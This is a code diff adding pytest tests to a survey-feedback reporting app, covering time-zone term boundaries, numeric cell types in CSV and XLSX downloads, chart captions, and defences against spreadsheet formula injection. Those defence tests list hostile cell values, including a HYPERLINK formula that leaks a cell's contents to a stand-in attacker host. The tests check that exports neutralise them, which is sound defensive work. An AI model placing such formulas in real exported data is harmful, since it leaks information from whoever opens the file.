@@ -3,9 +3,12 @@ hand-counted numbers, downloads and roles."""
 
 from __future__ import annotations
 
+import csv as csv_module
 import io
+import re
 from datetime import date, datetime
 
+import openpyxl
 import pandas as pd
 import pytest
 from sqlalchemy import func, select
@@ -18,7 +21,7 @@ from sefvoice.feedback.statistics import wilson_interval
 from sefvoice.feedback.terms import TermCalendar
 from sefvoice.models import AnswerTally, AuditEvent, Response
 from sefvoice.release import shown
-from sefvoice.release.shown import Rules
+from sefvoice.release.shown import Rules, Shown
 from sefvoice.surveys import service
 
 from .conftest import EASYREAD, post_form, sign_in
@@ -53,13 +56,86 @@ def test_responses_belong_to_the_term_of_their_submission_date():
     assert terms.term_for(date(2023, 5, 1)).name == "Summer 2023"
     assert terms.term_for(date(2023, 8, 31)).name == "Summer 2023"
     assert terms.term_for(date(2023, 9, 1)).name == "Autumn 2023"
-    assert terms.term_for(datetime(2024, 1, 1, 0, 0, 1)).name == "Spring 2024"
+    assert terms.term_at(datetime(2024, 1, 1, 0, 0, 1)).name == "Spring 2024"
     summer = terms.named("summer 2023")
     assert (summer.starts_on, summer.ends_on) == (date(2023, 5, 1), date(2023, 8, 31))
     assert terms.previous(summer).name == "Spring 2023"
     assert terms.previous(terms.named("Spring 2024")).name == "Autumn 2023"
     with pytest.raises(ValueError, match="use one of Spring, Summer, Autumn"):
         terms.named("Michaelmas 2023")
+
+
+# Moments (naive UTC, as stored) either side of local midnight where terms meet, in summer
+# time (BST, UTC+1) and in winter (GMT), and the term each belongs to in Europe/London.
+TERM_EDGES = [
+    (datetime(2023, 4, 30, 22, 59, 59), "Spring 2023"),  # 23:59:59 BST, 30 April
+    (datetime(2023, 4, 30, 23, 0, 0), "Summer 2023"),  # 00:00 BST, 1 May
+    (datetime(2023, 4, 30, 23, 30), "Summer 2023"),  # 00:30 BST, 1 May
+    (datetime(2023, 8, 31, 22, 59, 59), "Summer 2023"),  # 23:59:59 BST, 31 August
+    (datetime(2023, 8, 31, 23, 0, 0), "Autumn 2023"),  # 00:00 BST, 1 September
+    (datetime(2023, 12, 31, 23, 59, 59), "Autumn 2023"),  # 23:59:59 GMT, 31 December
+    (datetime(2024, 1, 1, 0, 0, 0), "Spring 2024"),  # 00:00 GMT, 1 January
+]
+
+
+@pytest.mark.parametrize(("moment", "term"), TERM_EDGES)
+def test_a_moment_belongs_to_the_term_of_its_local_date(moment, term):
+    assert TermCalendar().term_at(moment).name == term
+    start, end = TermCalendar().named(term).bounds()
+    assert start <= moment < end
+
+
+def test_term_bounds_are_local_midnights_in_utc():
+    terms = TermCalendar()
+    assert terms.named("Summer 2023").bounds() == (
+        datetime(2023, 4, 30, 23),  # 00:00 BST
+        datetime(2023, 8, 31, 23),
+    )
+    assert terms.named("Autumn 2023").bounds() == (datetime(2023, 8, 31, 23), datetime(2024, 1, 1))
+    auckland = TermCalendar(zone="Pacific/Auckland")  # UTC+12 in May
+    assert auckland.term_at(datetime(2023, 4, 30, 12)).name == "Summer 2023"
+    with pytest.raises(ValueError, match="'Europe/Lndon' is not a time zone"):
+        TermCalendar(zone="Europe/Lndon")
+
+
+def test_the_app_will_not_start_with_an_unknown_time_zone(database_url):
+    from .conftest import make_app
+
+    with pytest.raises(ValueError, match="SEFVOICE_TIMEZONE: 'BST' is not a time zone"):
+        make_app(database_url, TIMEZONE="BST")
+
+
+def test_a_quoted_comment_is_dated_by_its_local_month():
+    from sefvoice.bulletin.content import Quote
+    from sefvoice.feedback.comments import ApprovedComment
+
+    sent = datetime(2023, 4, 30, 23, 30)  # 00:30 BST on 1 May: a Summer comment
+    comment = ApprovedComment("Better", "Parent carer survey", "Q", "theme", "p", 1, sent)
+    quote = Quote.of(comment, TermCalendar().term_at(sent))
+    assert quote.source == "Parent carer survey, May 2023"
+
+
+def test_the_tally_counts_each_answer_in_its_local_term(app):
+    """Each response is tallied as at its submission, then recounted: both put it in the
+    term of its local date, on SQLite (a Python function) and PostgreSQL (AT TIME ZONE)."""
+    from sefvoice.feedback.aggregates import grouped_counts
+
+    with app.app_context():
+        survey = service.current_survey("all-types")
+        for moment, _ in TERM_EDGES:
+            _respond(survey, "me", {"pick-one": ["cats"]}, moment)
+            tally.add_responses(Response.submitted_at == moment)
+        db.session.commit()
+        rows = select(AnswerTally).order_by(*AnswerTally.__table__.primary_key.columns)
+        as_kept = [(t.kind, t.key, t.month, t.count) for t in db.session.scalars(rows)]
+        tally.recount()
+        assert [(t.kind, t.key, t.month, t.count) for t in db.session.scalars(rows)] == as_kept
+        terms = TermCalendar()
+        names = ["Spring 2023", "Summer 2023", "Autumn 2023", "Spring 2024"]
+        counts = grouped_counts(terms.between(date(2023, 1, 1), date(2024, 1, 1)))
+        people = counts.respondents.groupby("term")["n"].sum().to_dict()
+    expected = {name: sum(term == name for _, term in TERM_EDGES) for name in names}
+    assert people == expected
 
 
 def test_terms_can_be_named_in_config():
@@ -197,6 +273,7 @@ def test_downloads_carry_the_same_suppression(hand_counted, client):
     sign_in(client, "pcv_rep")
     csv = client.get("/feedback/download/q-all-types-views-included.csv?term=Summer+2023")
     assert csv.status_code == 200 and "attachment" in csv.headers["Content-Disposition"]
+    assert csv.headers["Content-Type"] == "text/csv; charset=utf-8"  # the charset once
     rows = pd.read_csv(io.BytesIO(csv.data), encoding="utf-8-sig")
     assert list(rows["People"]) == ["hidden", "5", "fewer than 5"]
     xlsx = client.get("/feedback/download/q-all-types-views-included.xlsx?term=Summer+2023")
@@ -207,6 +284,89 @@ def test_downloads_carry_the_same_suppression(hand_counted, client):
     with hand_counted.app_context():
         exports = db.session.scalars(select(AuditEvent).filter_by(action="export")).all()
     assert len(exports) == 2
+
+
+def _sheet(data: bytes) -> list[list]:
+    """The XLSX's cells as (value, type, number format), row by row."""
+    sheet = openpyxl.load_workbook(io.BytesIO(data)).active
+    return [[(c.value, c.data_type, c.number_format) for c in row] for row in sheet.iter_rows()]
+
+
+def test_downloads_hold_numbers_as_numbers(hand_counted, client):
+    sign_in(client, "pcv_rep")
+    url = "/feedback/download/{}?term=Summer+2023"
+    csv = client.get(url.format("q-all-types-pick-one.csv")).data.decode("utf-8-sig")
+    assert csv.splitlines() == ['"Answer","People","%"', '"Cats (positive)",9,64', '"Dogs",5,36']
+    rows = _sheet(client.get(url.format("q-all-types-pick-one.xlsx")).data)
+    assert rows[1] == [("Cats (positive)", "s", "General"), (9, "n", "#,##0"), (0.64, "n", "0%")]
+    views = _sheet(client.get(url.format("q-all-types-views-included.xlsx")).data)
+    assert [row[1][:2] for row in views[1:]] == [("hidden", "s"), (5, "n"), ("fewer than 5", "s")]
+    # A scorecard: the number of questions, a count, a % and a change in points.
+    principles = client.get(url.format("by-principle.csv")).data.decode("utf-8-sig")
+    header, *lines = principles.splitlines()
+    assert header.endswith('"% positive","Change since last term (points)"')
+    # (How many questions count is issue 12's; here only that it is a plain number.)
+    assert any(re.fullmatch(r'"Actively listen",\d+,14,64,14', line) for line in lines), lines
+    cells = next(
+        r for r in _sheet(client.get(url.format("by-principle.xlsx")).data) if r[4][0] == 14
+    )
+    assert isinstance(cells[1][0], int) and cells[1][1:] == ("n", "#,##0")
+    assert cells[2:] == [
+        (14, "n", "#,##0"),
+        (0.64, "n", "0%"),
+        (14, "n", '+#,##0" points";-#,##0" points";#,##0" points"'),
+    ]
+    weeks = _sheet(client.get(url.format("q-all-types-weeks-waited.xlsx")).data)
+    assert weeks[2][1] == (7.5, "n", '#,##0.0" weeks"')
+
+
+HOSTILE = [
+    '=HYPERLINK("http://evil.example/?leak="&B2,"Open figures")',
+    "+1+2",
+    "-1+2",
+    "@SUM(A1)",
+    "\t=1+2",
+    "\r=1+2",
+]
+
+
+def test_exported_text_cannot_run_as_a_formula():
+    from sefvoice.feedback.exports import to_csv, to_xlsx
+    from sefvoice.feedback.tables import Table
+
+    table = Table(
+        "t",
+        "T",
+        ["=Name", "Change"],
+        [[text, Shown(-4, "-4 points")] for text in HOSTILE]
+        + [["-", Shown(None, "hidden")]],
+    )
+    lines = list(csv_module.reader(io.StringIO(to_csv(table).decode("utf-8-sig"))))
+    assert lines[0] == ["'=Name", "Change (points)"]
+    assert lines[1:] == [["'" + text, "-4"] for text in HOSTILE] + [["'-", "hidden"]]
+    rows = _sheet(to_xlsx(table))
+    assert rows[0][0][:2] == ("'=Name", "s")
+    for text, row in zip(HOSTILE, rows[1:], strict=False):
+        assert row[0][:2] == ("'" + text, "s")
+        assert row[1][:2] == (-4, "n")  # a genuine negative number stays a number
+    assert rows[-1][0][:2] == ("'-", "s")
+
+
+def test_a_measure_named_as_a_formula_downloads_as_text(app, client):
+    from sefvoice.indicators import service as indicators
+    from sefvoice.indicators.importer import read_rows
+
+    name = HOSTILE[0].replace('"', '""')
+    data = (
+        f'code,name,domain,period,value,unit,outcome\nevil,"{name}",education,2023-01,5,count,3\n'
+    ).encode()
+    with app.app_context():
+        indicators.apply_import(indicators.plan_import(read_rows(data, "m.csv")), "m.csv", "t")
+    sign_in(client, "pcv_rep")
+    xlsx = client.get("/feedback/download/measures-3.xlsx?term=Summer+2023")
+    assert _sheet(xlsx.data)[1][0][:2] == ("'" + HOSTILE[0], "s")
+    csv = client.get("/feedback/download/measures-3.csv?term=Summer+2023").data
+    assert csv.decode("utf-8-sig").splitlines()[1].startswith('"\'=HYPERLINK(""http')
 
 
 def test_hidden_numbers_never_reach_the_page(hand_counted, client):
@@ -253,7 +413,7 @@ def test_the_tab_with_every_survey_answered(app, client):
     # The measures sit beside the feedback of their outcome, with status in words.
     outcome_3 = page[page.index('id="outcome-3"') : page.index('id="outcome-4"')]
     assert "Longest wait for paediatric therapy" in outcome_3
-    assert "52 weeks (Jul 2023)" in outcome_3 and "Off target, no direction" in outcome_3
+    assert "52 weeks (Jul 2023)" in outcome_3 and "Above target" in outcome_3
     assert "New EHC plans issued within 20 weeks" in outcome_3
     assert "Jun 2022 70.5%, Apr 2023 100%, May 2023 95%" in outcome_3
     csv = client.get("/feedback/download/measures-3.csv?term=Summer+2023")
@@ -268,7 +428,9 @@ def test_charts_are_svg_with_a_text_alternative_and_no_repeated_ids(hand_counted
     assert page.count('<div class="chart__wide"><svg ') == 5
     assert page.count('<div class="chart__narrow"><svg ') == 5
     assert 'id="clip"' not in page and 'id="group"' not in page
-    assert 'role="img" aria-label="By term. Highest: Summer 2023 (' in page
+    # The summary is said once, as the caption: the drawing has no name of its own.
+    assert '<figcaption class="chart__summary">By term. Highest: Summer 2023 (' in page
+    assert 'aria-label="By term.' not in page and page.count('<svg aria-hidden="true"') == 10
 
 
 def test_unknown_term_is_not_found(client):
